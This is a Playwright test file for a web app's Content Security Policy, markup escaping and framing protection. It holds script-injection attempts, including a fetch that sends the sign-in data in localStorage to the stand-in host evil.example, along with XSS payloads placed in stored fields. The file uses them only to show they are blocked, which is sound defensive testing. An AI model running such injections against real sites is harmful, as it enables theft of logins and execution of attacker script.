import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { api } from '@vitrine/contract'
import { addItem } from '../apps/server/test/inventory.ts'
import { createClient } from './items.ts'
import { expect, type Page, test } from './vitrine.ts'

const foreignSite = 'http://evil.example'

/** Ways to inject a script; each records that it ran. */
const attempts = `
  const ran = (what) => 'window.ran.push("' + what + '")'
  const script = (fields) => document.body.append(Object.assign(document.createElement('script'), fields))
  const markup = (html) => document.body.insertAdjacentHTML('beforeend', html)
  const tried = (work) => { try { work() } catch {} }
  window.ran.push('a script of our own')
  script({ textContent: ran('an inline script') })
  script({ src: '${foreignSite}/script.js' })
  script({ src: 'data:text/javascript,' + ran('a data script') })
  script({ src: URL.createObjectURL(new Blob([ran('a blob script')])) })
  markup("<img src='data:,' onerror='" + ran('an event handler') + "'>")
  markup("<a id='trap' href='javascript:" + ran('a javascript link') + "'>Click</a>")
  document.getElementById('trap').click()
  markup("<iframe srcdoc='<script>parent." + ran('a frame').slice(7) + "</script>'></iframe>")
  tried(() => eval(ran('eval')))
  tried(() => new Function(ran('a made function'))())
  setTimeout(ran('a timer'))
  fetch('${foreignSite}/fetched', { method: 'POST', mode: 'no-cors', body: localStorage.signInInfo }).catch(() => {})
  new Image().src = '${foreignSite}/picture'
  navigator.sendBeacon('${foreignSite}/beacon', 'x')
  markup("<object data='${foreignSite}/object'></object><iframe src='${foreignSite}/frame'></iframe>")
  markup("<form id='form' action='${foreignSite}/form' method='post' target='hidden'><iframe name='hidden'></iframe></form>")
  document.getElementById('form').submit()
`

const refusals = [
  'connect-src http:/beacon',
  'connect-src http:/fetched',
  'form-action http:/form',
  'frame-src http:',
  'img-src http:/picture',
  'object-src http:',
  'script-src eval',
  'script-src-attr inline',
  'script-src-elem blob',
  'script-src-elem data',
  'script-src-elem http:/script.js',
  'script-src-elem inline',
]

/** Runs the attempts in the open page as a script of our own site. */
const injectAttempts = `
  window.ran = []
  window.refused = []
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    window.refused.push(effectiveDirective + ' ' + blockedURI.replace(/:.*example/, ':')))
  new Promise((loaded) => document.body.append(
    Object.assign(document.createElement('script'), { src: '/probe.js', onload: loaded })))
`

/** Records which scripts ran, which were refused, and which requests left the browser. */
async function watchAttempts(page: Page) {
  const sentPaths: string[] = []
  await page.route(`${foreignSite}/**`, (route) => {
    sentPaths.push(new URL(route.request().url()).pathname)
    return route.fulfill({
      contentType: 'text/javascript',
      body: 'window.ran.push("a foreign script")',
    })
  })
  await page.route('**/probe.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: attempts }),
  )
  return {
    ran: async () => (await page.evaluate<string[]>('window.ran')).toSorted(),
    refused: async () => [...new Set(await page.evaluate<string[]>('window.refused'))].toSorted(),
    sent: () => sentPaths.toSorted(),
  }
}

test('only our scripts run, and only our requests are sent', async ({
  page,
  signInAs,
  expectFault,
}) => {
  expectFault('Content Security Policy')
  // The sign-in fixture fails in the injected frames, which have no storage.
  expectFault('sessionStorage')
  const { ran, refused, sent } = await watchAttempts(page)
  for (const path of ['/login', '/car/1', '/save-the-date', '/inventory/art']) {
    await test.step(path, async () => {
      if (path === '/inventory/art') await signInAs('employee')
      await page.goto(path)
      await expect(page.getByRole('heading').first()).toBeVisible()
      await page.evaluate(injectAttempts)
      await expect.poll(refused).toEqual(expect.arrayContaining(refusals))
      expect(await ran()).toEqual(['a script of our own'])
      expect(sent()).toEqual([])
    })
  }
})

test.describe('without the policy', { tag: '@only-with-all' }, () => {
  test.use({ bypassCSP: true })

  test('every attempt of the story above would run and be sent', async ({ page }) => {
    const { ran, sent } = await watchAttempts(page)
    await page.goto('/car/1')
    await page.evaluate(injectAttempts)
    await expect
      .poll(ran)
      .toEqual([
        'a blob script',
        'a data script',
        'a foreign script',
        'a frame',
        'a javascript link',
        'a made function',
        'a script of our own',
        'a timer',
        'an event handler',
        'an inline script',
        'eval',
      ])
    await expect
      .poll(sent)
      .toEqual(['/beacon', '/fetched', '/form', '/frame', '/object', '/picture', '/script.js'])
  })

  const hostileMarkup = `</script></style><script>window.hurt=1</script><img src="/x" onerror="window.hurt=2"><svg onload="window.hurt=3">`

  test('markup in a text is shown on every staff screen, never run', async ({
    page,
    server,
    signInAs,
  }) => {
    const staff = await createClient(server, 'root')
    const id = await addItem(staff, { name: hostileMarkup, description: hostileMarkup })
    await staff.call(api.inventory.saveTags, {
      body: { itemId: id, tags: { artist: hostileMarkup, technique: hostileMarkup } },
    })
    await staff.call(api.comments.add, { body: { itemId: id, comment: hostileMarkup } })
    const tag = await staff.call(api.journal.addTag, {
      body: { name: '<img src=/x onerror=window.hurt=4>' },
    })
    await staff.call(api.journal.add, {
      body: { comment: hostileMarkup, date: '2026-05-31', tags: [tag.id] },
    })
    await staff.call(api.users.create, {
      body: {
        email: '',
        gender: 'male',
        firstName: hostileMarkup.slice(0, 90),
        lastName: hostileMarkup.slice(33),
        phone: '',
        role: 'employee',
      },
    })
    await signInAs('root')
    const paths = [
      '/inventory/art?filter=hurt',
      `/inventory-detail/${id}`,
      '/comments',
      '/journal?filter=hurt',
      '/employees',
    ]
    for (const path of paths) {
      await page.goto(path)
      await expect(page.getByText('onerror="window.hurt=2"').first(), path).toBeVisible()
      expect(await page.evaluate('window.hurt'), path).toBeUndefined()
    }
  })
})

test('a frame on another site stays empty', async ({ page, server, expectFault }) => {
  expectFault('frame-ancestors')
  // The other site is on loopback, too, because browsers restrict requests from public pages to
  // loopback.
  const site = createServer((request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(
      request.url === '/harmless'
        ? 'harmless'
        : frames.map((src) => `<iframe src="${src}"></iframe>`).join(),
    )
  })
  site.listen(0, '127.0.0.1')
  await once(site, 'listening')
  const { port } = site.address() as AddressInfo
  const paths = [
    '/',
    '/login',
    '/inventory/art',
    '/set-password/x',
    '/car/1',
    '/art/1',
    '/save-the-date',
    '/api/health',
  ]
  const frames = [`http://localhost:${port}/harmless`, ...paths.map((path) => server.url + path)]

  await page.goto(`http://127.0.0.1:${port}/`)
  const frameUrls = () => page.frames().map((frame) => frame.url())
  const blockedFrame = 'chrome-error://chromewebdata/'
  await expect.poll(frameUrls).toEqual([page.url(), frames[0], ...paths.map(() => blockedFrame)])
  site.close()
})
